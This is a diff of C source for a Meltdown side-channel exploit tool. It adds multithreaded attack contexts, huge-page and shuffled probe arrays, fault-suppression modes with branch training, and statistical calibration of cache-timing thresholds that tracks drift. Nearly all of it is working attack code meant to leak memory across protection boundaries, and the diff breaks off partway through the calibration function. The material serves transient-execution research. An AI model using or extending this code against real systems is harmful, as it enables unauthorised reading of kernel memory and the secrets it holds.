@@ -28,122 +28,1208 @@
  * SUCH DAMAGE.
  */
 
+#ifdef __linux__
+#define _GNU_SOURCE
+#endif
+
 #include <sys/mman.h>
+#include <sys/resource.h>
 
 #include <err.h>
+#include <errno.h>
+#include <math.h>
+#include <pthread.h>
 #include <setjmp.h>
 #include <signal.h>
 #include <stdint.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
+#include <time.h>
 
 #include "meltdown.h"
 
 /*
- * Probe array
+ * Probe array geometry: line spacing, huge page backing and scan order
+ */
+unsigned int meltdown_probe_shift = PROBE_SHIFT_DFLT;
+int meltdown_probe_huge;
+int meltdown_probe_shuffle;
+
+/*
+ * Distance between consecutive probe arrays when reading several bytes
+ * per round.  The extra cache line ensures that the lines of different
+ * arrays fall into different cache sets, otherwise scanning one array
+ * would evict the hot line from the next.
+ */
+#define PROBE_SKEW	64
+#define PROBE_STRIDE(ctx) (((size_t)(ctx)->nlines << (ctx)->shift) + PROBE_SKEW)
+
+/*
+ * Optional instrumentation.  When built with MELTDOWN_STATS, each context
+ * keeps count of fault recoveries, of scans in which no line or more
+ * than one line was hot, and of the cycles spent in each phase of a
+ * round and in calibration.  Otherwise, the macros expand to nothing.
+ */
+#ifdef MELTDOWN_STATS
+struct meltdown_stats {
+	uint64_t	 rounds;	/* rounds performed */
+	uint64_t	 scans;		/* probe arrays scanned */
+	uint64_t	 faults;	/* fault recoveries */
+	uint64_t	 cold;		/* scans with no hot line */
+	uint64_t	 multi;		/* scans with several hot lines */
+	uint64_t	 tainted;	/* rounds dropped as tainted */
+	uint64_t	 flush_cycles;	/* flush and branch training */
+	uint64_t	 read_cycles;	/* transient access */
+	uint64_t	 scan_cycles;	/* probe array scan */
+	uint64_t	 calibrations;	/* calibrations performed */
+	uint64_t	 cal_cycles;	/* time spent calibrating */
+};
+#define STATS_INC(ctx, f)	((ctx)->stats.f++)
+#define STATS_ADD(ctx, f, n)	((ctx)->stats.f += (n))
+#define STATS_HOT(ctx)		((ctx)->stats_hot++)
+#define STATS_SCAN(ctx) do {						\
+		(ctx)->stats.scans++;					\
+		if ((ctx)->stats_hot == 0)				\
+			(ctx)->stats.cold++;				\
+		else if ((ctx)->stats_hot > 1)				\
+			(ctx)->stats.multi++;				\
+		(ctx)->stats_hot = 0;					\
+	} while (0)
+#define STATS_START(ctx)	((ctx)->stats_tsc = rdtsc64())
+#define STATS_PHASE(ctx, f) do {					\
+		uint64_t now_ = rdtsc64();				\
+		(ctx)->stats.f += now_ - (ctx)->stats_tsc;		\
+		(ctx)->stats_tsc = now_;				\
+	} while (0)
+#else
+#define STATS_INC(ctx, f)	do { } while (0)
+#define STATS_ADD(ctx, f, n)	do { } while (0)
+#define STATS_HOT(ctx)		do { } while (0)
+#define STATS_SCAN(ctx)		do { } while (0)
+#define STATS_START(ctx)	do { } while (0)
+#define STATS_PHASE(ctx, f)	do { } while (0)
+#endif
+
+/*
+ * Attack context.  Everything a single attacking thread needs is kept
+ * here so that several threads can attack at once without stepping on
+ * each other's toes.
+ */
+struct meltdown_ctx {
+	int		 cpu;		/* CPU we are bound to, or -1 */
+	uint8_t		*probe;		/* probe array */
+	size_t		 probesize;	/* size of probe array mapping */
+	unsigned int	 shift;		/* log2 of probe line spacing */
+	unsigned int	 nlines;	/* number of probe lines */
+	unsigned int	 dbits;		/* bits per digit */
+	unsigned int	 ndigits;	/* digits per byte */
+	unsigned int	 width;		/* bytes per round */
+	uint16_t	 order[PROBE_NLINES]; /* scan order */
+	int		 shuffle;	/* shuffle scan order every round */
+	uint32_t	 rng;		/* state for shuffling */
+	struct meltdown_cal cal;	/* calibration results */
+	int		 cached;	/* calibration came from cache */
+	uint32_t	 lt[PROBE_NLINES]; /* thresholds adjusted for drift */
+	float		 llr[LLR_NBINS]; /* llr adjusted for drift */
+	unsigned int	 drift_rounds;	/* rounds since last check */
+	double		 base_cold;	/* cold read at calibration */
+	double		 base_hot;	/* hot read at calibration */
+	double		 cur_cold;	/* average cold read */
+	double		 cur_hot;	/* average hot read */
+	double		 adj_cold;	/* cold read when adjusted */
+	double		 adj_hot;	/* hot read when adjusted */
+	meltdown_suppress suppress;	/* fault suppression method */
+	sigjmp_buf	 jmpenv;	/* fault recovery */
+	uint64_t	 nrounds;	/* rounds performed so far */
+	uint64_t	 scancycles;	/* duration of last scan */
+	long		 nivcsw;	/* involuntary context switches */
+	uint64_t	 ntainted;	/* tainted rounds dropped */
+	uint8_t		 brtrain[WIDTH_MAX]; /* harmless training target */
+	uint8_t		*brprobe;	/* probe array for training */
+	unsigned int	 brcond		/* branch condition, alone in */
+	    __attribute__((aligned(64))); /* its cache line */
+	struct meltdown_trace_rec *trace; /* trace ring buffer */
+	uint64_t	 ntrace;	/* records traced */
+#ifdef MELTDOWN_STATS
+	struct meltdown_stats stats;	/* instrumentation */
+	uint64_t	 stats_tsc;	/* start of current phase */
+	unsigned int	 stats_hot;	/* hot lines in current scan */
+#endif
+};
+
+/*
+ * Context of the current thread, for the benefit of the signal handler
+ */
+static __thread struct meltdown_ctx *curctx;
+
+/*
+ * Worker contexts, one per physical core unless otherwise specified
+ */
+unsigned int meltdown_nthreads;
+static struct meltdown_ctx **workers;
+static unsigned int nworkers;
+
+/*
+ * Minimum number of rounds per byte in adaptive mode, or 0 to always
+ * perform the full number of rounds
+ */
+unsigned int meltdown_minrounds;
+
+/*
+ * Relative tolerance for calibration
+ */
+double meltdown_caltol = 0.005;
+
+/*
+ * Where to send the result when the caller did not provide a buffer
  */
-#define PROBE_SHIFT	12
-#define PROBE_LINELEN	(1 << PROBE_SHIFT)
-#define PROBE_NLINES	256
-#define PROBE_SIZE	(PROBE_NLINES * PROBE_LINELEN)
-static uint8_t *probe;
+void (*meltdown_output)(size_t, const void *, size_t) = hexdump;
 
 /*
- * Average measured read latency with cold and hot cache
+ * Calibration cache file, if any
  */
-static uint64_t avg_cold;
-static uint64_t avg_hot;
+const char *meltdown_calcache;
 
 /*
- * Decision threshold
+ * Trace file, if any, and its descriptor
  */
-static uint64_t threshold;
+const char *meltdown_trace;
+static FILE *tracef;
 
 /*
+ * Fault suppression method
+ */
+meltdown_suppress meltdown_suppression = SUPPRESS_NODEFER;
+static const char *suppress_names[SUPPRESS_MAX] = {
+	[SUPPRESS_SIGNAL]	= "signal",
+	[SUPPRESS_NODEFER]	= "nodefer",
+	[SUPPRESS_BRANCH]	= "branch",
+};
+
+/*
+ * Encoding
+ */
+meltdown_encode meltdown_encoding = ENCODE_BYTE;
+static const char *encode_names[ENCODE_MAX] = {
+	[ENCODE_BYTE]		= "byte",
+	[ENCODE_NIBBLE]		= "nibble",
+	[ENCODE_BIT]		= "bit",
+};
+static const unsigned int encode_bits[ENCODE_MAX] = {
+	[ENCODE_BYTE]		= 8,
+	[ENCODE_NIBBLE]		= 4,
+	[ENCODE_BIT]		= 1,
+};
+
+/*
+ * Bytes per round
+ */
+unsigned int meltdown_width = 1;
+
+/*
+ * Scoring method
+ */
+meltdown_score meltdown_scoring = SCORE_HITS;
+static const char *score_names[SCORE_MAX] = {
+	[SCORE_HITS]		= "hits",
+	[SCORE_LLR]		= "llr",
+};
+
+/*
+ * Process an option common to all programs.  Returns 0 if the option was
+ * recognized and -1 otherwise.
+ */
+enum { PROBE_OPT_SHIFT, PROBE_OPT_HUGE, PROBE_OPT_SHUFFLE };
+static char *const probe_opts[] = {
+	[PROBE_OPT_SHIFT]	= "shift",
+	[PROBE_OPT_HUGE]	= "huge",
+	[PROBE_OPT_SHUFFLE]	= "shuffle",
+	NULL
+};
+
+int
+meltdown_option(int opt, const char *arg)
+{
+	char *end, *name, *opts, *p, *val;
+	unsigned long ul;
+	unsigned int i;
+
+	switch (opt) {
+	case 'C':
+		meltdown_calcache = arg;
+		return (0);
+	case 'd':
+		for (i = 0; i < SCORE_MAX; ++i)
+			if (strcmp(arg, score_names[i]) == 0)
+				break;
+		if (i == SCORE_MAX)
+			errx(1, "invalid scoring method");
+		meltdown_scoring = i;
+		return (0);
+	case 'e':
+		for (i = 0; i < ENCODE_MAX; ++i)
+			if (strcmp(arg, encode_names[i]) == 0)
+				break;
+		if (i == ENCODE_MAX)
+			errx(1, "invalid encoding");
+		meltdown_encoding = i;
+		return (0);
+	case 'j':
+		ul = strtoul(arg, &end, 10);
+		if (end == arg || *end != '\0')
+			errx(1, "invalid thread count");
+		meltdown_nthreads = ul;
+		if (meltdown_nthreads == 0 || meltdown_nthreads != ul ||
+		    meltdown_nthreads > CPU_MAX)
+			errx(1, "thread count is out of range");
+		return (0);
+	case 'm':
+		for (i = 0; i < SUPPRESS_MAX; ++i)
+			if (strcmp(arg, suppress_names[i]) == 0)
+				break;
+		if (i == SUPPRESS_MAX)
+			errx(1, "invalid fault suppression method");
+		meltdown_suppression = i;
+		return (0);
+	case 'p':
+		if ((opts = p = strdup(arg)) == NULL)
+			err(1, "strdup()");
+		while (*p != '\0') {
+			/* getsubopt() may not tell us what it didn't like */
+			name = p;
+			switch (getsubopt(&p, probe_opts, &val)) {
+			case PROBE_OPT_SHIFT:
+				if (val == NULL)
+					errx(1, "probe line spacing required");
+				ul = strtoul(val, &end, 10);
+				if (end == val || *end != '\0')
+					errx(1, "invalid probe line spacing");
+				if (ul < PROBE_SHIFT_MIN ||
+				    ul > PROBE_SHIFT_MAX)
+					errx(1, "probe line spacing "
+					    "is out of range");
+				meltdown_probe_shift = ul;
+				break;
+			case PROBE_OPT_HUGE:
+				meltdown_probe_huge = 1;
+				break;
+			case PROBE_OPT_SHUFFLE:
+				meltdown_probe_shuffle = 1;
+				break;
+			default:
+				errx(1, "invalid probe option: %s", name);
+			}
+		}
+		free(opts);
+		return (0);
+	case 't':
+		meltdown_caltol = strtod(arg, &end);
+		if (end == arg || *end != '\0')
+			errx(1, "invalid calibration tolerance");
+		if (!(meltdown_caltol > 0.0 && meltdown_caltol < 1.0))
+			errx(1, "calibration tolerance is out of range");
+		return (0);
+	case 'w':
+		ul = strtoul(arg, &end, 10);
+		if (end == arg || *end != '\0')
+			errx(1, "invalid width");
+		if (ul < 1 || ul > WIDTH_MAX)
+			errx(1, "width is out of range");
+		meltdown_width = ul;
+		return (0);
+	case 'X':
+		meltdown_trace = arg;
+		return (0);
+	default:
+		return (-1);
+	}
+}
+
+/*
+ * Map a probe array of at least the given size, and update the size to
+ * reflect what was actually mapped.
+ *
+ * If huge pages were requested, we try to back the probe array with
+ * them, so that a full scan costs a single TLB miss rather than one per
+ * line.  On Linux, we first try to use the huge page pool, and fall back
+ * to an aligned mapping eligible for transparent huge pages.  On
+ * FreeBSD, we request a superpage-aligned mapping, which will be
+ * promoted once it is fully populated.
+ */
+#define PROBE_HUGESIZE	(2 * 1024 * 1024)
+static uint8_t *
+meltdown_probe_map(size_t *size)
+{
+	uint8_t *p;
+#if __linux__
+	uintptr_t a;
+#endif
+	int flags;
+
+	flags = MAP_ANON | MAP_PRIVATE;
+	if (!meltdown_probe_huge) {
+		p = mmap(NULL, *size, PROT_READ | PROT_WRITE, flags, -1, 0);
+		if (p == MAP_FAILED)
+			err(1, "mmap()");
+		return (p);
+	}
+	*size = (*size + PROBE_HUGESIZE - 1) & ~(size_t)(PROBE_HUGESIZE - 1);
+#if __linux__
+	p = mmap(NULL, *size, PROT_READ | PROT_WRITE, flags | MAP_HUGETLB,
+	    -1, 0);
+	if (p != MAP_FAILED)
+		return (p);
+	VERBOSEF("no huge pages available, trying transparent huge pages\n");
+	p = mmap(NULL, *size + PROBE_HUGESIZE, PROT_READ | PROT_WRITE, flags,
+	    -1, 0);
+	if (p == MAP_FAILED)
+		err(1, "mmap()");
+	/* trim the excess on either side */
+	a = ((uintptr_t)p + PROBE_HUGESIZE - 1) &
+	    ~(uintptr_t)(PROBE_HUGESIZE - 1);
+	if (a > (uintptr_t)p)
+		munmap(p, a - (uintptr_t)p);
+	munmap((uint8_t *)a + *size, (uintptr_t)p + PROBE_HUGESIZE - a);
+	p = (uint8_t *)a;
+	if (madvise(p, *size, MADV_HUGEPAGE) != 0)
+		warn("madvise()");
+#elif __FreeBSD__
+	p = mmap(NULL, *size, PROT_READ | PROT_WRITE, flags | MAP_ALIGNED_SUPER,
+	    -1, 0);
+	if (p == MAP_FAILED)
+		err(1, "mmap()");
+#else
+	p = mmap(NULL, *size, PROT_READ | PROT_WRITE, flags, -1, 0);
+	if (p == MAP_FAILED)
+		err(1, "mmap()");
+#endif
+	return (p);
+}
+
+/*
+ * Create an attack context bound to the specified CPU.
+ *
  * Map our probe array between two guard regions to be absolutely sure
  * that it is not adjacent to memory in use elsewhere in the program.
  */
 #ifndef MAP_GUARD
 #define MAP_GUARD	(MAP_ANON | MAP_PRIVATE)
 #endif
-void
-meltdown_init(void)
+struct meltdown_ctx *
+meltdown_ctx_create(int cpu)
 {
+	struct meltdown_ctx *ctx;
+	unsigned int v;
+	int error;
 
-	if (mmap(NULL, PROBE_SIZE, PROT_NONE, MAP_GUARD, -1, 0) == MAP_FAILED)
+	if ((error = posix_memalign((void **)&ctx, 64, sizeof *ctx)) != 0) {
+		errno = error;
+		err(1, "posix_memalign()");
+	}
+	memset(ctx, 0, sizeof *ctx);
+	ctx->cpu = cpu;
+	ctx->suppress = meltdown_suppression;
+	memset(ctx->brtrain, 0xff, sizeof ctx->brtrain);
+	ctx->shift = meltdown_probe_shift;
+	ctx->dbits = encode_bits[meltdown_encoding];
+	ctx->nlines = 1U << ctx->dbits;
+	ctx->ndigits = 8 / ctx->dbits;
+	ctx->width = meltdown_width;
+	ctx->shuffle = meltdown_probe_shuffle;
+	ctx->rng = rdtsc32() | 1;
+	for (v = 0; v < ctx->nlines; ++v) /* dodge run detection */
+		ctx->order[v] = ((v * 167) + 13) % ctx->nlines;
+	ctx->probesize = ctx->width * PROBE_STRIDE(ctx);
+	if (mmap(NULL, ctx->probesize, PROT_NONE, MAP_GUARD, -1, 0) ==
+	    MAP_FAILED)
 		err(1, "mmap()");
-	probe = mmap(NULL, PROBE_SIZE, PROT_READ | PROT_WRITE,
-	    MAP_ANON | MAP_PRIVATE, -1, 0);
-	if (probe == MAP_FAILED)
+	ctx->probe = meltdown_probe_map(&ctx->probesize);
+	memset(ctx->probe, 0xff, ctx->probesize);
+	if (mmap(NULL, ctx->probesize, PROT_NONE, MAP_GUARD, -1, 0) ==
+	    MAP_FAILED)
 		err(1, "mmap()");
-	memset(probe, 0xff, PROBE_SIZE);
-	if (mmap(NULL, PROBE_SIZE, PROT_NONE, MAP_GUARD, -1, 0) == MAP_FAILED)
+	ctx->brprobe = mmap(NULL, ctx->probesize, PROT_READ | PROT_WRITE,
+	    MAP_ANON | MAP_PRIVATE, -1, 0);
+	if (ctx->brprobe == MAP_FAILED)
 		err(1, "mmap()");
+	if (meltdown_trace != NULL &&
+	    (ctx->trace = calloc(TRACE_NREC, sizeof *ctx->trace)) == NULL)
+		err(1, "calloc()");
+	return (ctx);
 }
 
 /*
- * Compute the average hot and cold read latency and derive the decision
- * threshold.
+ * Destroy an attack context.  The guard regions are left in place.
  */
-#define CAL_ROUNDS	1048576
 void
-meltdown_calibrate(void)
+meltdown_ctx_destroy(struct meltdown_ctx *ctx)
 {
-	uint8_t *addr;
-	uint64_t meas, min, max, sum;
-	unsigned int i;
 
-	VERBOSEF("calibrating...\n");
+	munmap(ctx->probe, ctx->probesize);
+	munmap(ctx->brprobe, ctx->probesize);
+	free(ctx->trace);
+	free(ctx);
+}
+
+/*
+ * Shuffle the scan order, so that neither the prefetcher nor anything
+ * else can learn it.  This uses a xorshift generator, which is plenty
+ * good enough for the purpose.  When shuffling is enabled, it is done
+ * before every scan, including those performed during calibration,
+ * validation and drift tracking, so that the thresholds are derived
+ * from the same access pattern as the attack sees.
+ */
+static void
+meltdown_ctx_shuffle(struct meltdown_ctx *ctx)
+{
+	uint32_t x;
+	uint16_t tmp;
+	unsigned int i, j;
+
+	x = ctx->rng;
+	for (i = ctx->nlines - 1; i > 0; --i) {
+		x ^= x << 13;
+		x ^= x >> 17;
+		x ^= x << 5;
+		j = x % (i + 1);
+		tmp = ctx->order[i];
+		ctx->order[i] = ctx->order[j];
+		ctx->order[j] = tmp;
+	}
+	ctx->rng = x;
+}
+
+/*
+ * Measure the average latency of a probe line read, with the probe array
+ * either flushed or not, and add each sample to a per-line histogram.
+ *
+ * Rather than take a fixed, large number of samples, we keep a running
+ * mean and variance and stop as soon as the standard error of the mean
+ * falls below meltdown_caltol times the mean, checking after every
+ * CAL_BATCH scans of the probe array.  Samples more than CAL_OUTLIER
+ * times the median of the first scan are left out of the mean, since
+ * they are almost certainly the result of an interrupt.  We always
+ * take at least CAL_MIN_SAMPLES samples so that the histograms have
+ * enough samples to be meaningful however few lines there are.
+ */
+#define CAL_MIN_SAMPLES	32768
+#define CAL_MAX_SAMPLES	1048576
+#define CAL_BATCH	4
+#define CAL_OUTLIER	8
+#define CAL_HISTMAX	(LLR_NBINS * LLR_BINSIZE)
+typedef uint32_t cal_hist[CAL_HISTMAX];
+
+static int
+cmp_u32(const void *a, const void *b)
+{
+	uint32_t x = *(const uint32_t *)a, y = *(const uint32_t *)b;
+
+	return (x < y ? -1 : x > y);
+}
+
+static uint64_t
+meltdown_ctx_measure(struct meltdown_ctx *ctx, int flush, cal_hist *hist)
+{
+	uint32_t lat[PROBE_NLINES], sorted[PROBE_NLINES];
+	double delta, mean, m2;
+	uint64_t cap, n, nscans;
+	unsigned int v;
+
+	/* make sure the probe array is hot if we won't be flushing it */
+	probe_scan(ctx->probe, ctx->order, ctx->nlines, ctx->shift, lat);
+	cap = 0;
+	n = 0;
+	mean = m2 = 0.0;
+	for (nscans = 0; nscans * ctx->nlines < CAL_MAX_SAMPLES; ++nscans) {
+		if (flush)
+			probe_flush(ctx->probe, ctx->nlines, ctx->shift);
+		if (ctx->shuffle)
+			meltdown_ctx_shuffle(ctx);
+		probe_scan(ctx->probe, ctx->order, ctx->nlines, ctx->shift,
+		    lat);
+		if (cap == 0) {
+			memcpy(sorted, lat, sizeof sorted);
+			qsort(sorted, ctx->nlines, sizeof *sorted, cmp_u32);
+			cap = (uint64_t)sorted[ctx->nlines / 2] * CAL_OUTLIER;
+		}
+		for (v = 0; v < ctx->nlines; ++v) {
+			hist[v][lat[v] < CAL_HISTMAX ?
+			    lat[v] : CAL_HISTMAX - 1]++;
+			if (lat[v] > cap)
+				continue;
+			n++;
+			delta = lat[v] - mean;
+			mean += delta / n;
+			m2 += delta * (lat[v] - mean);
+		}
+		if ((nscans + 1) % CAL_BATCH == 0 &&
+		    (nscans + 1) * ctx->nlines >= CAL_MIN_SAMPLES &&
+		    m2 / (n - 1) / n < meltdown_caltol * meltdown_caltol *
+		    mean * mean)
+			break;
+	}
+	VERBOSEF("cpu %d: %s read: %.0f +/- %.1f (%llu/%llu samples)\n",
+	    ctx->cpu, flush ? "cold" : "hot", mean, sqrt(m2 / (n - 1)),
+	    (unsigned long long)n,
+	    (unsigned long long)(nscans + 1) * ctx->nlines);
+	return (mean + 0.5);
+}
+
+/*
+ * Given histograms of hot and cold read latencies, find the threshold
+ * which minimizes the number of misclassified reads, i.e. hot reads at
+ * or above the threshold plus cold reads below it.  If a range of
+ * thresholds are equally good, which is usually the case when there is
+ * a clear gap between the two distributions, pick the middle one.
+ * Stores the number of misclassified reads in *errors.
+ */
+static unsigned int
+cal_threshold(const uint32_t *hot, const uint32_t *cold, uint64_t *errors)
+{
+	uint64_t e, min;
+	unsigned int lo, hi, t;
+
+	for (e = 0, t = 0; t < CAL_HISTMAX; ++t)
+		e += hot[t];
+	min = e;
+	lo = hi = 0;
+	for (t = 1; t < CAL_HISTMAX; ++t) {
+		e = e + cold[t - 1] - hot[t - 1];
+		if (e < min) {
+			min = e;
+			lo = hi = t;
+		} else if (e == min && hi == t - 1) {
+			hi = t;
+		}
+	}
+	*errors = min;
+	return ((lo + hi + 1) / 2);
+}
+
+/*
+ * Given histograms of hot and cold read latencies, compute the log-
+ * likelihood ratio of a read being hot rather than cold for each bin of
+ * LLR_BINSIZE cycles, with add-one smoothing.
+ *
+ * Bins with few or no samples give meaningless ratios, so we then force
+ * the ratios to be non-increasing with latency, which they physically
+ * should be, using the pool-adjacent-violators algorithm with each bin
+ * weighted by its number of samples.  Finally, we clamp the ratios to
+ * LLR_MAX so that a single read cannot dominate.
+ */
+#define LLR_MAX		8.0
+static void
+cal_llr(const uint32_t *hot, const uint32_t *cold, float *llr)
+{
+	double bv[LLR_NBINS], bw[LLR_NBINS];
+	unsigned int bn[LLR_NBINS];
+	uint64_t h, c, nhot, ncold;
+	unsigned int b, nb, t;
+	double x;
+
+	for (nhot = ncold = 0, t = 0; t < CAL_HISTMAX; ++t) {
+		nhot += hot[t];
+		ncold += cold[t];
+	}
+	for (nb = 0, b = 0; b < LLR_NBINS; ++b) {
+		h = c = 0;
+		for (t = b * LLR_BINSIZE; t < (b + 1) * LLR_BINSIZE; ++t) {
+			h += hot[t];
+			c += cold[t];
+		}
+		bv[nb] = log((h + 1.0) / (nhot + LLR_NBINS)) -
+		    log((c + 1.0) / (ncold + LLR_NBINS));
+		bw[nb] = h + c + 1e-6;
+		bn[nb] = 1;
+		nb++;
+		/* merge with preceding blocks until non-increasing */
+		while (nb > 1 && bv[nb - 2] < bv[nb - 1]) {
+			bv[nb - 2] = (bv[nb - 2] * bw[nb - 2] +
+			    bv[nb - 1] * bw[nb - 1]) /
+			    (bw[nb - 2] + bw[nb - 1]);
+			bw[nb - 2] += bw[nb - 1];
+			bn[nb - 2] += bn[nb - 1];
+			nb--;
+		}
+	}
+	for (b = 0, t = 0; t < nb; ++t) {
+		x = bv[t] > LLR_MAX ? LLR_MAX :
+		    bv[t] < -LLR_MAX ? -LLR_MAX : bv[t];
+		while (bn[t]-- > 0)
+			llr[b++] = x;
+	}
+}
+
+/*
+ * Every DRIFT_INTERVAL rounds, take a reference measurement of cold and
+ * hot reads the same way meltdown_ctx_validate() does and fold it into a
+ * moving average which starts out at the calibrated averages.  Once
+ * either the hot latency or the gap between hot and cold has moved by
+ * more than DRIFT_TOL percent since the last adjustment, we map the
+ * calibrated per-line thresholds and log-likelihood ratios linearly from
+ * the calibrated averages onto the current ones, which tracks frequency
+ * changes and slowly varying noise without recalibrating.
+ */
+#define DRIFT_INTERVAL	256
+#define DRIFT_SAMPLES	256
+#define DRIFT_WEIGHT	8	/* inverse weight of new measurements */
+#define DRIFT_TOL	10
+static void
+meltdown_ctx_drift_reset(struct meltdown_ctx *ctx)
+{
+
+	memcpy(ctx->lt, ctx->cal.lthreshold, sizeof ctx->lt);
+	memcpy(ctx->llr, ctx->cal.llr, sizeof ctx->llr);
+	ctx->drift_rounds = 0;
+	ctx->base_cold = ctx->cur_cold = ctx->adj_cold = ctx->cal.avg_cold;
+	ctx->base_hot = ctx->cur_hot = ctx->adj_hot = ctx->cal.avg_hot;
+}
+
+static void
+meltdown_ctx_drift(struct meltdown_ctx *ctx)
+{
+	uint32_t lat[PROBE_NLINES];
+	const struct meltdown_cal *cal = &ctx->cal;
+	uint64_t cap, cold, hot, ncold, nhot;
+	double c, h, scale, x;
+	unsigned int bin, i, v;
+
+	ctx->drift_rounds = 0;
+	cap = cal->avg_cold * CAL_OUTLIER;
+	cold = hot = ncold = nhot = 0;
+	for (i = 0; i * ctx->nlines < DRIFT_SAMPLES; ++i) {
+		probe_flush(ctx->probe, ctx->nlines, ctx->shift);
+		if (ctx->shuffle)
+			meltdown_ctx_shuffle(ctx);
+		probe_scan(ctx->probe, ctx->order, ctx->nlines, ctx->shift,
+		    lat);
+		for (v = 0; v < ctx->nlines; ++v) {
+			if (lat[v] <= cap) {
+				cold += lat[v];
+				ncold++;
+			}
+		}
+		if (ctx->shuffle)
+			meltdown_ctx_shuffle(ctx);
+		probe_scan(ctx->probe, ctx->order, ctx->nlines, ctx->shift,
+		    lat);
+		for (v = 0; v < ctx->nlines; ++v) {
+			if (lat[v] <= cap) {
+				hot += lat[v];
+				nhot++;
+			}
+		}
+	}
+	if (ncold == 0 || nhot == 0)
+		return;
+	c = (double)cold / ncold;
+	h = (double)hot / nhot;
+	ctx->cur_cold += (c - ctx->cur_cold) / DRIFT_WEIGHT;
+	ctx->cur_hot += (h - ctx->cur_hot) / DRIFT_WEIGHT;
+	if (ctx->cur_cold <= ctx->cur_hot || ctx->base_cold <= ctx->base_hot)
+		return;
+	if (fabs(ctx->cur_hot - ctx->adj_hot) * 100 <=
+	    ctx->adj_hot * DRIFT_TOL &&
+	    fabs((ctx->cur_cold - ctx->cur_hot) -
+	    (ctx->adj_cold - ctx->adj_hot)) * 100 <=
+	    (ctx->adj_cold - ctx->adj_hot) * DRIFT_TOL)
+		return;
+	ctx->adj_cold = ctx->cur_cold;
+	ctx->adj_hot = ctx->cur_hot;
+	scale = (ctx->cur_cold - ctx->cur_hot) /
+	    (ctx->base_cold - ctx->base_hot);
+	for (v = 0; v < ctx->nlines; ++v) {
+		x = ctx->cur_hot + (cal->lthreshold[v] - ctx->base_hot) * scale;
+		ctx->lt[v] = x < 1.0 ? 1 : x;
+	}
+	for (bin = 0; bin < LLR_NBINS; ++bin) {
+		/* latency at the middle of the bin, as it was at baseline */
+		x = ctx->base_hot + ((bin + 0.5) * LLR_BINSIZE -
+		    ctx->cur_hot) / scale;
+		i = x < 0.0 ? 0 : x / LLR_BINSIZE;
+		ctx->llr[bin] = cal->llr[i < LLR_NBINS ? i : LLR_NBINS - 1];
+	}
+	VERBOSEF("cpu %d: cold / hot read drifted from %.0f / %.0f to "
+	    "%.0f / %.0f, thresholds adjusted\n", ctx->cpu, ctx->base_cold,
+	    ctx->base_hot, ctx->cur_cold, ctx->cur_hot);
+}
+
+/*
+ * Compute the average hot and cold read latency, and derive a decision
+ * threshold for each line of the probe array, as well as a global one,
+ * from the distributions of hot and cold read latencies.  Lines fall in
+ * different cache sets and slices and may have noticeably different
+ * latencies.  We also derive the log-likelihood ratios used by the
+ * SCORE_LLR method.  We use the same primitives as the attack itself so
+ * that the measurements are directly comparable.
+ */
+void
+meltdown_ctx_calibrate(struct meltdown_ctx *ctx)
+{
+	struct meltdown_cal *cal = &ctx->cal;
+	cal_hist *hot, *cold, allhot, allcold, lhot, lcold;
+	uint64_t errors, gerrors, nerrors, nsamples;
+	unsigned int t, tmin, tmax, v;
+
+	STATS_START(ctx);
+	if ((hot = calloc(ctx->nlines, sizeof *hot)) == NULL ||
+	    (cold = calloc(ctx->nlines, sizeof *cold)) == NULL)
+		err(1, "calloc()");
 
 	/* compute average latency of "cold" access */
-	min = UINT64_MAX;
-	max = 0;
-	sum = 0;
-	for (i = 0, addr = probe; i < CAL_ROUNDS + 2; ++i) {
-		addr = probe + (i % PROBE_NLINES) * PROBE_LINELEN;
-		clflush(addr);
-		meas = timed_read(addr);
-		if (meas < min)
-			min = meas;
-		if (meas > max)
-			max = meas;
-		sum += meas;
-	}
-	sum -= min;
-	sum -= max;
-	avg_cold = sum / CAL_ROUNDS;
-	VERBOSEF("average cold read: %llu\n", (unsigned long long)avg_cold);
+	cal->avg_cold = meltdown_ctx_measure(ctx, 1, cold);
 
 	/* compute average latency of "hot" access */
-	meas = timed_read(probe);
-	min = UINT64_MAX;
-	max = 0;
-	sum = 0;
-	for (i = 0; i < CAL_ROUNDS + 2; ++i) {
-		addr = probe + (i % PROBE_NLINES) * PROBE_LINELEN;
-		meas = timed_read(addr);
-		if (meas < min)
-			min = meas;
-		if (meas > max)
-			max = meas;
-		sum += meas;
-	}
-	sum -= min;
-	sum -= max;
-	avg_hot = sum / CAL_ROUNDS;
-	VERBOSEF("average hot read: %llu\n", (unsigned long long)avg_hot);
-
-	/* set decision threshold to sqrt(hot * cold) */
-	if (avg_hot >= avg_cold)
+	cal->avg_hot = meltdown_ctx_measure(ctx, 0, hot);
+	if (cal->avg_hot >= cal->avg_cold)
 		errx(1, "hot read is slower than cold read!");
-	for (threshold = avg_hot; threshold <= avg_cold; threshold++)
-		if (threshold * threshold >= avg_hot * avg_cold)
-			break;
-	VERBOSEF("threshold: %llu\n", (unsigned long long)threshold);
+
+	/*
+	 * Derive the global decision threshold from the pooled
+	 * histograms, then the per-line thresholds.  Each line has
+	 * relatively few samples, so we add the pooled histograms, scaled
+	 * down to the size of a single line, as a prior.  This mostly
+	 * serves to break ties in favor of the global threshold.
+	 */
+	memset(allhot, 0, sizeof allhot);
+	memset(allcold, 0, sizeof allcold);
+	nsamples = 0;
+	for (v = 0; v < ctx->nlines; ++v) {
+		for (t = 0; t < CAL_HISTMAX; ++t) {
+			allhot[t] += hot[v][t];
+			allcold[t] += cold[v][t];
+			nsamples += hot[v][t] + cold[v][t];
+		}
+	}
+	cal->threshold = cal_threshold(allhot, allcold, &gerrors);
+	cal_llr(allhot, allcold, cal->llr);
+	tmin = CAL_HISTMAX;
+	tmax = 0;
+	nerrors = 0;
+	for (v = 0; v < ctx->nlines; ++v) {
+		for (t = 0; t < CAL_HISTMAX; ++t) {
+			lhot[t] = hot[v][t] * ctx->nlines + allhot[t];
+			lcold[t] = cold[v][t] * ctx->nlines + allcold[t];
+		}
+		cal->lthreshold[v] = cal_threshold(lhot, lcold, &errors);
+		for (t = 0; t < CAL_HISTMAX; ++t)
+			nerrors += t < cal->lthreshold[v] ?
+			    cold[v][t] : hot[v][t];
+		if (cal->lthreshold[v] < tmin)
+			tmin = cal->lthreshold[v];
+		if (cal->lthreshold[v] > tmax)
+			tmax = cal->lthreshold[v];
+	}
+	VERBOSEF("cpu %d: threshold: %llu (%.2f%% errors), "
+	    "per line: %u - %u (%.2f%% errors)\n", ctx->cpu,
+	    (unsigned long long)cal->threshold, 100.0 * gerrors / nsamples,
+	    tmin, tmax, 100.0 * nerrors / nsamples);
+	free(hot);
+	free(cold);
+	ctx->cached = 0;
